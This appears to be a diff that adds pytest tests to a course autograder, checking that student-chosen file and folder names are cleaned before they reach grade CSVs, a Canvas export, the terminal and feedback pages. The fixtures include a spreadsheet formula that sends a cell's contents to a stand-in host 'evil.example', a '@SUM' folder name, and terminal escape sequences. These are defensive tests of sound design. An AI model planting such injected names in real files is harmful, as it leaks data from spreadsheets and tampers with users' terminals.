@@ -438,3 +438,47 @@ def test_the_class_modules_import_each_other_without_a_circle_and_at_the_top():
     for module in graph:
         visit(module, ())
     assert {"rows"} <= graph["feedback"] & graph["gradebook"] & graph["class_outputs"]
+
+
+# -- names a student chose ---------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("evil.example?"&A1,"x")&x.py'  # (a file name holds no slash)
+ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b2J.py"  # OSC (window title), CSI, and C1's CSI
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\t="])
+def test_a_csv_cell_that_could_be_a_formula_is_neutralised(start):
+    from autograder.course.clean import csv_cell
+
+    cell = csv_cell(start + "1+1")
+    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell
+    assert csv_cell("mha (1).py") == "mha (1).py" and csv_cell("87.14") == "87.14"
+
+
+def test_file_and_folder_names_never_reach_a_csv_as_formulas_nor_a_terminal_as_escapes(tmp_path):
+    """A submission named as a formula, one named with terminal escapes, a student folder named as a
+    formula: grades.csv, the Canvas file, the terminal and the feedback page get them cleaned."""
+    from rich.console import Console
+
+    from autograder.course.class_outputs import OutputOptions, write_class_outputs
+    from autograder.course.feedback import render
+
+    course = make_course(
+        tmp_path / "course",
+        {"ann": {FORMULA: "x = 1\n"}, "bob": {ESCAPES: "x = 1\n"}, "@SUM(1+1)": {"mha.py": "x = 1\n"}},
+    )
+    runs = {e.student: synthetic_run(e.file.name) for e in read_roster(course)}
+    rows = [Row(e, runs[e.student]) for e in read_roster(course)]
+    out = io.StringIO()
+    console = Console(file=out, width=200, color_system=None, force_terminal=False)
+    write_class_outputs(course, rows, load_rubric(), OutputOptions(gradebook=False), console)
+    for name in ("grades.csv", "grades-canvas.csv"):
+        text = (course / name).read_text()
+        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, name
+        for line in csv.reader(io.StringIO(text)):
+            assert not [cell for cell in line if cell.lstrip().startswith(("=", "+", "-", "@"))], (name, line)
+    grades = {r["student"]: r for r in csv.DictReader((course / "grades.csv").open())}
+    assert grades["ann"]["file"] == "'" + FORMULA and grades["'@SUM(1+1)"]["score"] == "100"
+    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue() and "owned" in out.getvalue()
+    page = render(rows[1])
+    assert "\x1b" not in page and "\x9b" not in page
